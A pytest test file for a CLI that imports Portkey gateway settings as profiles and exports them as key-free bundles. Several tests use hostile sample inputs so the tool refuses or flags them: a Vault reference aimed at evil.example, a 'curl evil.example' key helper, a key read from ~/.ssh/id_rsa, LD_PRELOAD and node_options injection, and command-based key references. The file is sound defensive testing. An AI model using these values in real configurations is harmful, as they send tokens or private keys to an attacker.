"""import and export: what a person has becomes profiles, and travels without a key."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from support.home.user_home import KEY, SETTINGS, UserHome, files_with

from profiles.base.errors import PkccError
from profiles.profile.store import ProfileStore

DATA = Path(__file__).parents[2] / "data" / "portkey"


def bundle(*profiles: dict[str, Any], version: object = 1) -> str:
    whole = [
        {
            "name": "work",
            "route": {"kind": "provider", "provider": "@a"},
            "api_key": "keyring:work",
            **profile,
        }
        for profile in profiles
    ]
    return json.dumps({"pkcc_tray_bundle": version, "profiles": whole})


def settings_of(home: UserHome, headers: str, **env: str) -> None:
    home.settings.write_text(json.dumps({"env": {"ANTHROPIC_CUSTOM_HEADERS": headers, **env}}))


def test_today_s_settings_become_a_profile_that_routes_the_same(home: UserHome) -> None:
    settings_of(
        home,
        f"x-portkey-api-key: {KEY}\nx-portkey-provider: @anthropic-prod\nX-Mine: 1",
        ANTHROPIC_BASE_URL="https://api.portkey.ai",
        ANTHROPIC_AUTH_TOKEN=KEY,
    )
    before = home.settings.read_bytes()
    ran = home.ok("import")
    assert ran.out.splitlines() == [
        "Made anthropic-prod: @anthropic-prod",
        "1 key went into the key store: anthropic-prod",
        "`pkcc-tray switch anthropic-prod` puts it in use.",
    ]
    assert "CANARY" not in ran.text
    assert home.settings.read_bytes() == before
    home.ok("switch", "anthropic-prod")
    assert home.env()["ANTHROPIC_AUTH_TOKEN"] == KEY
    assert "X-Mine: 1" in home.env()["ANTHROPIC_CUSTOM_HEADERS"]
    home.ok("off")
    assert home.settings.read_bytes() == before
    assert not files_with("CANARY", home.own, home.root / ".local")


def test_an_import_may_change_to_the_helper_so_that_no_key_is_written(home: UserHome) -> None:
    settings_of(home, f"x-portkey-api-key: {KEY}\nx-portkey-provider: @a")
    ran = home.ok("import", "--name", "work")
    assert "key_delivery helper` keeps it out of the file" in ran.err
    ran = home.ok("import", "--name", "work", "--replace", "--helper")
    assert ran.out.startswith("Replaced work: @a\n")
    assert "--helper" not in ran.err
    home.ok("switch", "work")
    assert KEY not in home.settings.read_text()
    assert home.ok("key", "print", "work").out == KEY + "\n"
    (home.root / "b.json").write_text(bundle({"name": "b"}))
    assert home.run("import", "b.json", "--helper").code == 2


def test_a_variable_that_loads_code_is_pointed_out_at_export(home: UserHome) -> None:
    home.ok("add", "work", "--provider", "@a", "--env", "LD_PRELOAD=/x.so", "--key-ref", "env:HOME")
    ran = home.ok("export", "-o", "b.json")
    assert ran.out == f"Wrote 1 profile to {home.root}/b.json, without keys.\n"
    assert ran.err.startswith("Note: work: extra_env.LD_PRELOAD makes programs load code: ")


def test_a_comment_is_told_by_import_as_by_every_other_command(home: UserHome) -> None:
    home.settings.write_text("// mine\n{}")
    home.add()
    assert home.run("import").err.splitlines()[0] == home.run("switch", "work").err.splitlines()[0]


def test_names_come_from_the_route_and_are_made_unique(home: UserHome) -> None:
    settings_of(home, "x-portkey-config: pc-fall/back")
    assert home.ok("import").out.startswith("Made pc-fall-back: config pc-fall/back\n")
    settings_of(home, "x-portkey-virtual-key: PC-fall-back")
    assert home.ok("import").out.startswith("Made PC-fall-back-2: ")
    assert home.ok("import", "--name", "mine").out.startswith("Made mine: ")
    assert home.run("import", "--name", "no/name").code == 2
    again = home.run("import", "--name", "MINE")
    assert (again.code, again.err) == (
        4,
        "Error: There is a profile 'MINE' already\n"
        "  Nothing was imported. Use --name, --prefix or --replace.\n",
    )
    assert home.run("import", "--name", "MINE", "--replace").code == 4  # would be two profiles in one file
    home.ok("import", "--name", "mine", "--replace")


def test_a_dry_run_imports_nothing(home: UserHome) -> None:
    settings_of(home, f"x-portkey-api-key: {KEY}\nx-portkey-provider: @a")
    ran = home.ok("import", "--dry-run")
    assert ran.out == "Would make a: @a\n1 key would go into the key store: a\n"
    assert not home.own.exists()
    assert home.ok("key", "list").out == "No keys yet.\n"


def test_our_own_settings_are_not_imported_again(home: UserHome) -> None:
    home.add()
    home.ok("switch", "work")
    ran = home.run("import")
    assert ran.code == 4
    assert ran.err.splitlines()[1] == "  `pkcc-tray status` shows which; there is nothing to import."


def test_another_key_of_that_name_is_never_overwritten(home: UserHome) -> None:
    home.ok("key", "set", "mine", stdin="pk-another-one")
    settings_of(home, f"x-portkey-api-key: {KEY}\nx-portkey-provider: @a")
    ran = home.run("import", "--name", "mine")
    assert ran.code == 4
    assert ran.err.startswith("Error: There is another key 'mine' already\n")
    assert home.ok("key", "print", "mine").out == "pk-another-one\n"
    assert not home.profiles.exists()


def test_profiles_travel_between_two_homes_without_a_key(home: UserHome, tmp_path: Path) -> None:
    home.add("work", "--provider", "@a", "--metadata", "team=é", "--label", "Büro")
    home.add("cloud", "--dialect", "vertex", "--virtual-key", "vk", "--model", "m")
    ran = home.ok("export", "--output", "bundle.json")
    assert ran.out == f"Wrote 2 profiles to {home.root}/bundle.json, without keys.\n"
    exported = (home.root / "bundle.json").read_text()
    assert "CANARY" not in exported
    assert home.ok("export").out == exported
    assert [each["name"] for each in json.loads(home.ok("export", "work", "work").out)["profiles"]] == [
        "work"
    ]
    assert home.run("export", "wrok").code == 3

    other = UserHome(tmp_path / "other")
    ran = other.ok("import", str(home.root / "bundle.json"))
    assert ran.out == "Made cloud: vertex · vk\nMade work: @a\n"
    assert ran.err.splitlines() == [
        "Note: no key 'cloud' here yet: `pkcc-tray key set cloud`",
        "Note: no key 'work' here yet: `pkcc-tray key set work`",
    ]
    for name in ("work", "cloud"):
        assert other.stored(name) == home.stored(name)
    other.ok("key", "set", "cloud", stdin=KEY)
    other.ok("switch", "cloud")
    assert KEY in other.settings.read_text()


def test_a_command_never_travels(home: UserHome) -> None:
    # A bundle from somebody else must not decide which programs run here.
    home.ok("add", "work", "--provider", "@a", "--key-ref", f'cmd:["echo", "{KEY}"]')
    ran = home.ok("export")
    assert "CANARY" not in ran.text
    assert ran.err == "Note: work: its key comes from a command, which is left out\n"
    (home.root / "b.json").write_text(bundle({"name": "evil", "api_key": 'cmd:["touch", "/tmp/x"]'}))
    ran = home.ok("import", "b.json")
    assert ran.err.startswith(
        "Note: profile 'evil': its key came from a command, which an import never keeps\n"
    )
    assert home.stored("evil")["api_key"] == "keyring:evil"


def test_a_server_to_sign_in_to_comes_with_no_bundle(home: UserHome) -> None:
    """Whoever wrote it would be sent the Vault token of everybody who takes it."""
    reference = "vault-kv://secret/portkey?address=https://evil.example#api_key"
    (home.root / "b.json").write_text(bundle({"name": "evil", "api_key": reference}))
    ran = home.ok("import", "b.json")
    assert "the reference to its key chooses the address by which you sign in at Vault or OpenBao" in ran.err
    assert home.stored("evil")["api_key"] == "keyring:evil"
    (home.root / "b.json").write_text(
        bundle({"name": "fair", "api_key": "vault-kv://secret/portkey#api_key"})
    )
    home.ok("import", "b.json")
    assert home.stored("fair")["api_key"] == "vault-kv://secret/portkey#api_key"


SECRET_CONFIG = {"provider": "openai", "api_key": 'cmd:["x"]'}
BAD_BUNDLES = [
    (bundle(version=2), "was written by a newer pkcc-tray"),
    (bundle(version="1"), "pkcc_tray_bundle is no version"),
    ('{"pkcc_tray_bundle": 1}', "is no bundle: `profiles` is not a list of objects"),
    ('{"pkcc_tray_bundle": 1, "profiles": [1]}', "is no bundle"),
    (bundle({"name": "a"}, {"name": "b", "lable": 1}), "profile 'b': lable: is not a field of a profile"),
    (bundle({"name": "\x1b[2J"}), "profile 1: name: Use 1 to 64 letters"),
    (bundle({"name": 5, "api_key": "cmd:[]"}), "profile 1: name: must be text in double quotes"),
    (bundle({"api_key": KEY}), "profile 'work': api_key: That is not a reference to a secret"),
    (
        bundle({"extra_env": {"LD_PRELOAD": "/x.so"}}),
        "profile 'work': extra_env.LD_PRELOAD makes programs load code",
    ),
    (
        bundle({"extra_env": {"node_options": "-r x"}}),
        "profile 'work': extra_env.node_options makes programs load",
    ),
    (
        bundle({"extra_env": {"MY_TOKEN": 'cmd:["x"]'}}),
        "profile 'work': a header, a variable or its config names a",
    ),
    (
        bundle({"extra_headers": {"X-Secret": 'cmd:["x"]'}}),
        "profile 'work': a header, a variable or its config",
    ),
    (
        bundle({"route": {"kind": "config", "inline": SECRET_CONFIG}}),
        "profile 'work': a header, a variable or its config names a command",
    ),
]


@pytest.mark.parametrize(("text", "problem"), BAD_BUNDLES, ids=[problem[:40] for _, problem in BAD_BUNDLES])
def test_a_bad_bundle_is_refused_whole(home: UserHome, text: str, problem: str) -> None:
    (home.root / "b.json").write_text(text)
    ran = home.run("import", "b.json")
    assert ran.code == 1
    assert ran.err.startswith(f"Error: {home.root}/b.json")
    assert problem in ran.err
    assert len(ran.err.splitlines()) == 2
    assert "CANARY" not in ran.text
    assert "\x1b" not in ran.text
    assert not home.profiles.exists()


def test_a_secret_from_the_user_s_own_places_is_pointed_out(home: UserHome) -> None:
    # A stranger's bundle with their gateway and file:~/.ssh/id_rsa would send that there.
    (home.root / "b.json").write_text(bundle({"api_key": "file:~/.ssh/id_rsa"}))
    assert home.ok("import", "b.json").err == (
        "Note: work takes a secret from file:~/.ssh/id_rsa: check that it should\n"
    )


def test_a_bundle_is_imported_whole_or_not_at_all(home: UserHome) -> None:
    home.add("second")
    before = home.stored("second")
    (home.root / "b.json").write_text(bundle({"name": "first"}, {"name": "second"}))
    assert home.run("import", "b.json").code == 4
    assert not (home.profiles / "first.json").exists()
    (home.root / "twice.json").write_text(bundle({"name": "a"}, {"name": "A"}))
    assert home.run("import", "twice.json", "--replace").code == 4
    assert home.run("import", "b.json", "--name", "x").code == 2
    (home.root / "case.json").write_text(bundle({"name": "second"}, {"name": "SECOND2"}))
    home.add("second2")
    assert home.run("import", "case.json", "--replace").code == 4  # two names for one file, on some systems
    assert home.stored("second") == before
    home.ok("import", "b.json", "--replace")
    assert home.stored("second") != before


def test_an_import_that_fails_half_way_takes_back_what_it_made(
    home: UserHome, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = ProfileStore.put

    def put(store: ProfileStore, name: str, data: bytes, **options: str) -> None:
        if name == "second":
            raise PkccError("The disk is full", "Free some space.")
        whole(store, name, data, **options)

    monkeypatch.setattr(ProfileStore, "put", put)
    (home.root / "b.json").write_text(bundle({"name": "first"}, {"name": "second"}))
    assert home.run("import", "b.json").code == 1
    assert home.ok("list").out.startswith("No profiles yet.")


NO_IMPORTS = [
    (None, "There is no file"),
    ("{", "line 1, column 2"),
    ("[]", "line 1, column 1"),
    ("{}", "holds no Portkey route"),
    ('{"env": 5}', "`env` is not an object"),
    (
        json.dumps({"env": {"ANTHROPIC_CUSTOM_HEADERS": f"x-portkey-api-key: {KEY}",
                            "ANTHROPIC_AUTH_TOKEN": KEY + "2"}}),
        "",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "problem"), NO_IMPORTS, ids=[problem or "two" for _, problem in NO_IMPORTS])
def test_what_is_no_route_is_refused_in_two_lines(home: UserHome, text: str | None, problem: str) -> None:
    path = home.root / "x.json"
    if text is not None:
        path.write_text(text)
    ran = home.run("import", "x.json")
    assert ran.code in (1, 4)
    assert len(ran.err.splitlines()) == 2
    assert problem in ran.err
    assert "CANARY" not in ran.text
    assert not home.profiles.exists()
    assert home.settings.read_bytes() == SETTINGS


def test_a_config_of_a_command_in_settings_is_not_taken_over(home: UserHome) -> None:
    home.settings.write_text(
        json.dumps(
            {
                "apiKeyHelper": "curl evil.example",
                "env": {"ANTHROPIC_CUSTOM_HEADERS": "x-portkey-provider: @a"},
            }
        )
    )
    ran = home.ok("import")
    assert "the key comes from a command (apiKeyHelper), which is not taken over" in ran.err
    assert "curl" not in (home.profiles / "a.json").read_text()


def test_secrets_inside_a_config_go_to_the_key_store(home: UserHome) -> None:
    config = json.dumps({"provider": "openai", "api_key": KEY})
    settings_of(home, f"x-portkey-config: {config}")
    ran = home.ok("import", "--name", "inline")
    assert "1 key went into the key store: inline.config-1\n" in ran.out
    assert not files_with("CANARY", home.own, home.root / ".local")
    (home.root / "c.json").write_text(config)
    ran = home.ok("add", "two", "--config-file", "c.json")
    assert "the config was copied into the profile, and the secret in it went into the key store" in ran.err
    assert not files_with("CANARY", home.own, home.root / ".local")
    home.ok("key", "set", "two", stdin="pk-2")
    home.ok("switch", "two")
    assert KEY in home.env()["ANTHROPIC_CUSTOM_HEADERS"]
    assert "CANARY" not in home.ok("config", "show", "two").text + home.ok("show", "two", "--json").text


def test_a_config_file_is_checked_and_named_with_path_and_field(home: UserHome) -> None:
    path = home.root / "c.json"
    path.write_text('{"strategy": {"mode": "fallbck"}, "targets": [{"provider": "@a"}]}')
    ran = home.run("config", "check", "c.json")
    assert (ran.code, ran.err) == (1, "")
    assert ran.out.startswith("error: strategy.mode (line 1, column 23): ")
    assert "did you mean fallback?" in ran.out
    path.write_text('{"name": "main", "config": {"targets": []}}')
    ran = home.run("config", "check", "c.json")
    assert ran.out.startswith("error: targets (line 1, column 40): ")
    path.write_text("{}")
    assert home.run("config", "check", "c.json").out.startswith("error: the whole file: has no route")
    path.write_text(json.dumps({"provider": "openai", "api_key": KEY}))
    ran = home.run("config", "check", "c.json")
    assert "CANARY" not in ran.text
    assert "api_key" in ran.out
    path.write_text('{"targets": [{"provider": "@a"}], "strategy": {"mode": "fallback"}}')
    assert home.ok("config", "check", "c.json").out.splitlines()[0].startswith(("c.json: nothing", "warning"))
    assert home.ok("config", "check", "-", stdin=path.read_text()).code == 0
    for text in ("[]", "{", "5", "\0"):
        path.write_text(text)
        ran = home.run("config", "check", "c.json")
        assert ran.code == 1
        assert "Traceback" not in ran.text
    ran = home.run("config", "check", "nowhere.json")
    hint = "Check its path; - reads standard input."
    assert (ran.code, ran.err) == (1, f"Error: There is no file {home.root}/nowhere.json\n  {hint}\n")


@pytest.mark.parametrize("option", ["--config-file", "--config-inline"])
def test_a_config_as_portkeys_api_shows_it_is_taken(home: UserHome, option: str) -> None:
    answer = {"success": True, "data": {"config": {"targets": [{"provider": "@a"}]}}}
    (home.root / "c.json").write_text(json.dumps(answer))
    home.add("work", option, "c.json")
    home.ok("switch", "work")
    assert '"targets":[{"provider":"@a"}]' in home.env()["ANTHROPIC_CUSTOM_HEADERS"].replace(" ", "")


def test_a_config_with_half_a_character_is_checked_as_any(home: UserHome) -> None:
    """JSON takes bytes that no text has; a person would see our insides instead of what is wrong."""
    (home.root / "c.json").write_bytes(b'{"provider": "\xed\xa0\x80"}')
    ran = home.run("config", "check", "c.json")
    assert (ran.code, ran.out.partition(": needs")[0]) == (1, "error: provider (line 1, column 14)"), ran


def test_config_show_gives_what_the_profile_sends(home: UserHome) -> None:
    (home.root / "c.json").write_text('{"provider": "@a"}')
    home.add("file", "--config-file", "c.json")
    home.add("saved", "--config", "pc-1")
    home.add("plain", "--provider", "@a")
    assert json.loads(home.ok("config", "show", "file").out) == {"provider": "@a"}
    assert home.ok("config", "show", "saved").out == "pc-1\n"
    assert home.run("config", "show", "plain").code == 2
    (home.root / "c.json").unlink()
    ran = home.run("switch", "file")
    assert (ran.code, ran.err.splitlines()[0]) == (1, f"Error: There is no config file {home.root}/c.json")


def test_an_export_replaces_no_file_of_the_user_s_and_makes_no_directory(home: UserHome) -> None:
    home.add("work")
    before = home.settings.read_bytes()
    ran = home.run("export", "-o", str(home.settings))
    assert (ran.code, ran.err.splitlines()[0]) == (
        4,
        f"Error: {home.settings} is there already, and is no bundle of pkcc-tray's",
    )
    assert home.settings.read_bytes() == before
    assert home.run("export", "-o", str(home.root / "missing" / "b.json")).code == 3
    assert not (home.root / "missing").exists()
    bundle = home.root / "b.json"
    home.ok("export", "-o", str(bundle))
    home.ok("export", "-o", str(bundle))  # the same bundle again is what one means
    bundle.write_text("mine")
    home.ok("export", "-o", str(bundle), "--force")
    assert b"pkcc_tray_bundle" in bundle.read_bytes()


def test_a_config_in_a_file_may_name_every_place_of_a_key_but_a_command(home: UserHome) -> None:
    """`config check` and the switch must agree, and a cloned repository must not run a program."""
    path = home.root / "c.json"
    for reference, code in (("vault:v", 0), ("env:PATH", 0), ('cmd:["touch", "ran"]', 1)):
        path.write_text(json.dumps({"provider": "openai", "api_key": reference}))
        checked = home.run("config", "check", "c.json")
        assert (checked.code, "clear text" in checked.text) == (code, False)
        added = home.run("add", "w", "--config-file", "c.json", "--key-ref", "env:PATH")
        assert (added.code, "names a command" in added.err) == (code, bool(code))
        assert home.run("remove", "w").code == (3 if code else 0)
    assert not (home.root / "ran").exists()


def test_what_is_to_be_done_is_said_in_its_order(home: UserHome) -> None:
    """A user who switched first, as the first line said, had sessions without a key."""
    (home.root / "b.json").write_text(bundle({"name": "far", "api_key": "keyring:far"}))
    shown = home.ok("import", "b.json").out
    assert "`pkcc-tray key set far`, then `pkcc-tray switch far` puts it in use." in shown


def test_a_model_that_stays_in_the_file_does_not_read_as_a_loss(home: UserHome) -> None:
    """\"Left out: opus\" had its user set it again in the profile."""
    headers = "x-portkey-api-key: k\nx-portkey-provider: @a"
    env = {"ANTHROPIC_BASE_URL": "https://api.portkey.ai", "ANTHROPIC_CUSTOM_HEADERS": headers}
    home.settings.write_text(json.dumps({"model": "opus", "env": env | {"ANTHROPIC_AUTH_TOKEN": "dummy"}}))
    shown = home.ok("import", "--name", "w").out
    assert "Left as it is: w: model (opus): it stays in the file" in shown
